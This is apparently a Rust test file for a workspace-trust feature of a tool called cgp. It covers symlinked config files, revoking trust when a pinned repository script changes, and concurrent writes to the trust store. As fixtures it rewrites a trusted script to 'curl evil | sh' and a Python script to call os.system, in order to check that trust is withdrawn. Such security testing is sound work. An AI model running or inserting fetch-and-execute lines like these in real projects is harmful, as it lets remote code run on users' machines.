//! Workspace trust: decided for what will actually run (N2, N12), and a
//! store that concurrent writers never corrupt or fool (N13).

use std::path::{Path, PathBuf};
use std::sync::Arc;

use contextgraph_config::trust::{fingerprint, pinned_programs, trust_location};
use contextgraph_config::{Config, Environment, ProviderKind, TrustStore};

fn env_with_home(home: &Path) -> Environment {
    Environment {
        home: Some(home.to_path_buf()),
        xdg_config_home: Some(home.join("xdg")),
        cgp_config: None,
        data_dir: Some(home.join("data")),
    }
}

fn write(path: &Path, text: &str) -> PathBuf {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
    path.to_path_buf()
}

/// What `cgp trust FILE` records, done through the library.
fn trust(env: &Environment, file: &Path) {
    let location = trust_location(file);
    let text = std::fs::read_to_string(file).unwrap();
    let config = Config::from_toml_str(&text, &location, env).unwrap();
    let programs = pinned_programs(&location, &config.providers);
    TrustStore::for_env(env)
        .unwrap()
        .trust(&location, &fingerprint(text.as_bytes(), &programs))
        .unwrap();
}

fn stdio_command(config: &Config, name: &str) -> Option<PathBuf> {
    config.provider(name).and_then(|p| match &p.kind {
        ProviderKind::Stdio { command, .. } => Some(command.clone()),
        _ => None,
    })
}

const TOOL_TOML: &str = "[providers.tool]\ncommand = \"./scripts/provider.sh\"\n";

/// N2: `evil/cgp.toml -> ../good/cgp.toml`, with `good/cgp.toml` trusted.
/// The link's `./scripts/provider.sh` would resolve in `evil/`, so it is
/// not trusted there: the provider is skipped with a warning naming how to
/// trust it. `good/` itself keeps its trust.
#[cfg(unix)]
#[test]
fn n2_a_symlinked_cgp_toml_does_not_borrow_the_trust_of_its_target() {
    let home = tempfile::tempdir().unwrap();
    let env = env_with_home(home.path());
    let good = home.path().join("good");
    let evil = home.path().join("evil");
    std::fs::create_dir_all(good.join(".git")).unwrap();
    std::fs::create_dir_all(evil.join(".git")).unwrap();
    let good_file = write(&good.join("cgp.toml"), TOOL_TOML);
    write(&good.join("scripts/provider.sh"), "#!/bin/sh\necho good\n");
    write(&evil.join("scripts/provider.sh"), "#!/bin/sh\necho evil\n");
    std::os::unix::fs::symlink("../good/cgp.toml", evil.join("cgp.toml")).unwrap();
    trust(&env, &good_file);

    let at_good = Config::load_with(&good, None, &env).unwrap();
    assert!(
        stdio_command(&at_good, "tool").is_some(),
        "{:?}",
        at_good.warnings
    );

    let at_evil = Config::load_with(&evil, None, &env).unwrap();
    assert_eq!(stdio_command(&at_evil, "tool"), None);
    let warning = at_evil
        .warnings
        .iter()
        .find(|w| w.message.contains("provider `tool`"))
        .expect("a warning that the provider was skipped");
    assert!(
        warning.message.contains("not trusted"),
        "{}",
        warning.message
    );

    // Trusting the link where it is makes it run from there, knowingly.
    trust(&env, &evil.join("cgp.toml"));
    let at_evil = Config::load_with(&evil, None, &env).unwrap();
    let command = stdio_command(&at_evil, "tool").expect("trusted at evil/");
    assert!(command.starts_with(&evil), "{}", command.display());
}

/// N12: a trusted file's repository-local program is pinned: changing
/// `./scripts/provider.sh` (or a script argument) withdraws trust.
#[test]
fn n12_a_changed_repository_local_program_needs_trusting_again() {
    let home = tempfile::tempdir().unwrap();
    let env = env_with_home(home.path());
    let repo = home.path().join("repo");
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    let file = write(
        &repo.join("cgp.toml"),
        "[providers.tool]\ncommand = \"./scripts/provider.sh\"\n\
         [providers.py]\ncommand = \"python3\"\nargs = [\"tools/p.py\", \"--flag\"]\n",
    );
    let tool = write(&repo.join("scripts/provider.sh"), "#!/bin/sh\necho one\n");
    let script = write(&repo.join("tools/p.py"), "print('one')\n");
    trust(&env, &file);
    let config = Config::load_with(&repo, None, &env).unwrap();
    assert!(
        stdio_command(&config, "tool").is_some(),
        "{:?}",
        config.warnings
    );
    assert!(stdio_command(&config, "py").is_some());

    std::fs::write(&tool, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let config = Config::load_with(&repo, None, &env).unwrap();
    assert_eq!(stdio_command(&config, "tool"), None);
    assert!(
        config
            .warnings
            .iter()
            .any(|w| w.message.contains("a program in the repository")),
        "{:?}",
        config.warnings
    );

    trust(&env, &file);
    assert!(stdio_command(&Config::load_with(&repo, None, &env).unwrap(), "py").is_some());
    std::fs::write(&script, "import os; os.system('evil')\n").unwrap();
    assert_eq!(
        stdio_command(&Config::load_with(&repo, None, &env).unwrap(), "py"),
        None
    );
}

/// N13: twenty concurrent trusts of twenty files all land, and a revoke
/// racing trusts of other files is never undone.
#[test]
fn n13_concurrent_trust_and_revoke_never_lose_a_record() {
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(TrustStore::at(dir.path().join("data/trusted.ndjson")));
    for round in 0..5 {
        let victim = PathBuf::from(format!("/repo/victim{round}/cgp.toml"));
        store.trust(&victim, "v").unwrap();
        let threads: Vec<_> = (0..20)
            .map(|i| {
                let store = Arc::clone(&store);
                let victim = victim.clone();
                std::thread::spawn(move || {
                    if i == 7 {
                        assert!(store.revoke(&victim).unwrap());
                    } else {
                        let p = PathBuf::from(format!("/repo/r{round}-{i}/cgp.toml"));
                        store.trust(&p, "x").unwrap();
                    }
                })
            })
            .collect();
        for t in threads {
            t.join().unwrap();
        }
        let entries = store.entries().unwrap();
        assert!(
            !entries.iter().any(|e| e.path == victim),
            "round {round}: the revoke was undone"
        );
        for i in (0..20).filter(|i| *i != 7) {
            let p = PathBuf::from(format!("/repo/r{round}-{i}/cgp.toml"));
            assert!(
                entries.iter().any(|e| e.path == p),
                "round {round}: {} lost",
                p.display()
            );
        }
    }
}
